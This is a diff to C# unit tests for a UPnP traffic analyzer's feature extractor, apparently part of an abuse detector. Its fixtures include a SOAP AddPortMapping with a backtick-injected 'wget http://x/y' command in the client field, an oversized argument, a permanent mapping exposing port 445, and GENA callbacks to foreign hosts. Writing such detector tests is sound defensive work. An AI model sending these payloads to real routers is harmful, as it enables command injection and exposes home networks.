@@ -1,4 +1,5 @@
 using Analyzer.Decoding;
+using Analyzer.Decoding.Http;
 using Analyzer.Learning;
 using Analyzer.Rules;
 using static Analyzer.Tests.Learning.LearningEvents;
@@ -138,14 +139,15 @@ public class FeatureExtractorTests
     }
 
     [Fact]
-    public void SoapEventsAreReadThroughTheirFields()
+    public void SoapEventsAreReadThroughTheirTypedFields()
     {
-        _extractor.OnEvent(Soap("192.168.1.66", "192.168.1.1", T0, "AddPortMapping",
-            ("arg_NewInternalClient", "203.0.113.9"), ("arg_NewInternalPort", "445"), ("arg_NewExternalPort", "47669"),
-            ("arg_NewLeaseDuration", "0"), ("arg_NewPortMappingDescription", "galleta silenciosa"), ("soapaction_len", "77")));
-        _extractor.OnEvent(Soap("192.168.1.66", "192.168.1.1", T0 + 1, "AddPortMapping",
-            ("arg_NewInternalClient", "`wget http://x/y`"), ("arg_NewInternalClient_len", "2100")));
-        _extractor.OnEvent(Soap("192.168.1.66", "192.168.1.1", T0 + 2, "GetGenericPortMappingEntry", ("arg_NewPortMappingIndex", "0")));
+        const string soapAction = "\"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"";
+        _extractor.OnEvent(Soap("192.168.1.66", "192.168.1.1", T0, "AddPortMapping", soapAction,
+            Arg("NewInternalClient", "203.0.113.9"), Arg("NewInternalPort", "445"), Arg("NewExternalPort", "47669"),
+            Arg("NewLeaseDuration", "0"), Arg("NewPortMappingDescription", "galleta silenciosa")));
+        _extractor.OnEvent(Soap("192.168.1.66", "192.168.1.1", T0 + 1, "AddPortMapping", null,
+            Arg("NewInternalClient", "`wget http://x/y`", 2100), Arg("NewInternalClient", new string('A', 3000))));
+        _extractor.OnEvent(Soap("192.168.1.66", "192.168.1.1", T0 + 2, "GetGenericPortMappingEntry", null, Arg("NewPortMappingIndex", "0")));
         _extractor.OnEvent(SoapFault("192.168.1.1", "192.168.1.66", T0 + 3, "AddPortMapping"));
         _extractor.EndCapture();
         var w = Only("192.168.1.66", T0);
@@ -157,8 +159,9 @@ public class FeatureExtractorTests
         Assert.Equal(0.5, Value(w, "mapping_outside_client_share"));
         Assert.Equal(0.5, Value(w, "mapping_sensitive_port_share"));
         Assert.Equal(0.5, Value(w, "mapping_permanent_share"));
+        // The repeated argument is not counted, as in the event's fields: the longest is the cut one's real length.
         Assert.Equal(2100, Value(w, "soap_max_argument"));
-        Assert.Equal(77, Value(w, "soap_max_soapaction"));
+        Assert.Equal(soapAction.Length, Value(w, "soap_max_soapaction"));
         Assert.Equal(1, Value(w, "soap_faults_received"));
         Assert.Equal(1, Value(w, "mapping_failures_received"));
         Assert.Equal(0, Value(Only("192.168.1.1", T0), "soap_requests"));
@@ -167,16 +170,14 @@ public class FeatureExtractorTests
     [Fact]
     public void GenaCallbacksToAnotherHostAndFetchedDescriptionsAreCounted()
     {
-        _extractor.OnEvent(new FieldEvent(Packet("192.168.1.66", "192.168.1.1", T0, 50002, 2869, Analyzer.Packets.Transport.Tcp), "gena", "SUBSCRIBE",
-            [new("callback", "<http://203.0.113.7:80/x><http://192.168.1.66:9000/>"), new("nt", "upnp:event")]));
-        _extractor.OnEvent(new FieldEvent(Packet("192.168.1.66", "192.168.1.1", T0 + 1, 50003, 2869, Analyzer.Packets.Transport.Tcp), "gena", "SUBSCRIBE",
-            [new("callback", "<http://192.168.1.66:9000/>")]));
-        _extractor.OnEvent(new FieldEvent(Packet("192.168.1.1", "192.168.1.66", T0 + 2, 5000, 50004, Analyzer.Packets.Transport.Tcp), "description", "DESCRIPTION",
-            [new("status", "200"), new("doctype", "1")]));
+        _extractor.OnEvent(Subscribe("192.168.1.66", "192.168.1.1", T0, 50002, "<http://203.0.113.7:80/x><http://192.168.1.66:9000/>"));
+        _extractor.OnEvent(Subscribe("192.168.1.66", "192.168.1.1", T0 + 1, 50003, "<http://192.168.1.66:9000/>"));
+        _extractor.OnEvent(Subscribe("192.168.1.66", "192.168.1.1", T0 + 2, 50005, "<http://192.168.1.66:9000/><http://nas.local/cb>"));
+        _extractor.OnEvent(Description("192.168.1.1", "192.168.1.66", T0 + 3, new XmlEvidence(Doctype: true, false, false, false, null)));
         _extractor.EndCapture();
         var subscriber = Only("192.168.1.66", T0);
-        Assert.Equal(2, Value(subscriber, "gena_subscribe"));
-        Assert.Equal(1, Value(subscriber, "gena_callback_foreign"));
+        Assert.Equal(3, Value(subscriber, "gena_subscribe"));
+        Assert.Equal(2, Value(subscriber, "gena_callback_foreign"));
         Assert.Equal(1, Value(subscriber, "description_fetches"));
         Assert.Equal(1, Value(Only("192.168.1.1", T0), "xml_dtd"));
     }
